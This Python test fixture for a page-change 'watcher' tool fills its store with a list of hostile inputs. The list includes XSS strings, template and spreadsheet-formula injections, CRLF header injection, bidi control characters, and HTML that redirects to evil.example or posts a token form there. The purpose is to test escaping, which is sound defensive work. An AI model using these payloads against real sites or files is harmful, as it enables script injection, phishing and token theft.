"""Texts that want to be more than texts, in every field that a page, a feed or a table shows."""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from uuid import NAMESPACE_URL, uuid5

from watcher.model.change import (
    Change,
    ChangeId,
    Edit,
    EditKind,
    Evidence,
    EvidenceKind,
    Ruling,
    Span,
    SpanKind,
    Verdict,
    Weight,
)
from watcher.model.figure import Figure, FigureChange, FigureKind
from watcher.model.notice import Message, Notice, Receipt, Signal
from watcher.model.outcome import Changed, FirstSeen, Held, Holding, Outcome, Trouble, Visit
from watcher.model.page import Block, BlockKind, Document, Part, Snapshot, Validators
from watcher.model.source import ChannelName, Kind, Source, SourceId
from watcher.store import Store

PAYLOADS = (
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=\"javascript:alert(1)\">here</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{7*7}}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "]]><script>alert(1)</script><![CDATA[",
    "--><script>alert(1)</script><!--",
    "\" onmouseover=alert(1) x=\"",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1", "-1+1", "\t=1+1", "%0d%0aSet-Cookie: a=b",
    "\u202egnp.exe\u202c \u200b\ufeff\u2028\u2029 \x00\x01\x08\x1b[31m\x7f\ud800",
    "BEGIN:VEVENT\r\nSUMMARY:x\r\nEND:VEVENT",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "<form action=//evil.example><input name=token><button>",
    "x" * 3000,
    "Ω≈ç√ 手数料 رسوم 🙂",
)  # fmt: skip
AT = datetime(2026, 11, 20, 6, tzinfo=UTC)


def fill(path: Path) -> int:
    """Record a change for every payload; how many."""
    with Store.open(path) as store:
        for number, payload in enumerate(PAYLOADS, start=1):
            _record(number, payload, store)
    return len(PAYLOADS)


def _record(number: int, payload: str, store: Store) -> None:
    urls = (f"https://example.com/{payload[:80]}".replace("\ud800", ""), "javascript:alert(1)")
    source = Source(SourceId(f"source-{number}"), payload, payload, Kind.FEES, urls)
    before, after = (_document(f"{side} {payload}", payload) for side in ("old", "new"))
    seen = AT - timedelta(days=1)
    store.record(FirstSeen(_visit(source, seen, payload), before, "1"), None, _nobody)
    done = store.record(
        Changed(_visit(source, AT, payload), after, "2", _change(source, before, after, payload)), None,
        lambda outcome: [_notice(number, outcome, payload)],
    )  # fmt: skip
    assert isinstance(done, Changed)
    store.note(done.change.id, payload or "-", payload, AT)
    store.acknowledge(done.change.id, payload, AT)
    (delivery,) = store.claim(AT + timedelta(days=1), lease=timedelta(minutes=1))
    if number % 2:
        store.settle_sent(delivery, Receipt(payload), AT)
    else:
        store.settle_given_up(delivery, payload, AT)
    held = Held(_visit(source, AT + timedelta(hours=1), payload), payload, Holding(AT, 1, after.text_sha256))
    store.record(held, Trouble(AT, 1, payload, told=False), _nobody)


def _nobody(_: Outcome) -> list[Notice]:
    return []


def _document(text: str, payload: str) -> Document:
    kinds = (BlockKind.HEADING, BlockKind.PARAGRAPH, BlockKind.ITEM, BlockKind.ROW)
    return Document(tuple(Block(kind, text, (payload,), 1, payload) for kind in kinds), payload, payload, "1")


def _visit(source: Source, at: datetime, payload: str) -> Visit:
    snapshot = Snapshot.of(payload.encode("utf-8", "replace"), payload, payload)
    parts = tuple(Part(url, url, snapshot.sha256, Validators(payload, payload), at) for url in source.urls)
    return Visit(source, at, parts, (snapshot,), timedelta(seconds=1))


def _change(source: Source, before: Document, after: Document, payload: str) -> Change:
    figure = Figure(FigureKind.DATE, date(2026, 1, 1), "day", "", payload, 0, 1)
    old, new = before.blocks[1], after.blocks[1]
    redline = (Span(SpanKind.SAME, payload), Span(SpanKind.DELETED, payload), Span(SpanKind.INSERTED, payload))
    edits = (
        Edit(EditKind.REWORDED, old, new, 1, 1, redline, (FigureChange(figure, figure), FigureChange(None, figure))),
        Edit(EditKind.ADDED, None, after.blocks[2], None, 2),
        Edit(EditKind.REMOVED, before.blocks[3], None, 3, None),
    )
    evidence = Evidence(EvidenceKind.STATEMENT, payload, payload, AT, date(2026, 2, 1))
    ruling = Ruling(
        Weight.MATERIAL, list(Verdict)[len(payload) % 7], (payload,), (evidence,), (payload,), date(2026, 12, 1), 3, 15,
        uncovered=(payload,), promised_by=payload,
    )  # fmt: skip
    return Change(
        source.id,
        AT - timedelta(days=1),
        AT,
        before.text_sha256,
        after.text_sha256,
        edits,
        ruling,
        payload,
        ChangeId(0),
    )


def _notice(number: int, outcome: Outcome, payload: str) -> Notice:
    assert isinstance(outcome, Changed)
    message = Message(Signal.ALARM, payload, payload, payload, "ref", "thread")
    return Notice(
        uuid5(NAMESPACE_URL, str(number)), ChannelName(payload), outcome.visit.source.id, outcome.change.id, message
    )
